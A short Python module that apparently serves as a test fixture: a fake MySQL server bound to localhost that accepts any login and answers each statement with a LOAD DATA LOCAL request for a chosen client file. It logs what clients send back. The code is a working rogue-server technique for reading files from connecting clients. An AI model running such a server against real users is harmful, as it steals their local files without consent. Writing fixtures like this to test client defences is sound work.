"""rogue.py - a server that speaks just enough of MySQL's protocol to misuse it: it lets everybody in, and
answers every statement by asking for a file of the client's machine (LOAD DATA LOCAL).

    with Rogue("/etc/secret") as rogue:
        rogue.port
        rogue.seen       all that clients have sent
"""

import socket
import struct
import threading

GREETING = (b"\x0a8.0.40\0" + struct.pack("<I", 7) + b"12345678\0" + struct.pack("<H", 0xf7ff) + b"\x2d" +
            struct.pack("<HH", 2, 0x00ff & ~0x0020) + bytes([21]) + b"\0" * 10 + b"123456789012\0" +
            b"mysql_native_password\0")
OK = b"\0\0\0\x02\0\0\0"


class Rogue:
    def __init__(self, wanted):
        self.wanted, self.seen, self.asked = wanted, b"", 0
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.port = self.listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.listener.close()

    def _accept(self):
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            client.settimeout(10)
            try:
                self._serve(client)
            except (OSError, struct.error):
                pass
            finally:
                client.close()

    def _packet(self, client):
        head = client.recv(4, socket.MSG_WAITALL)
        body = client.recv(struct.unpack("<I", head[:3] + b"\0")[0], socket.MSG_WAITALL)
        self.seen += head + body
        return head[3], body

    def _send(self, client, number, body):
        client.sendall(struct.pack("<I", len(body))[:3] + bytes([number]) + body)

    def _serve(self, client):
        self._send(client, 0, GREETING)
        number, _ = self._packet(client)
        self._send(client, number + 1, OK)
        while True:
            number, body = self._packet(client)
            if body[:1] == b"\x03":  # a statement
                self.asked += 1
                self._send(client, number + 1, b"\xfb" + self.wanted.encode())
            else:
                self._send(client, number + 1, OK)
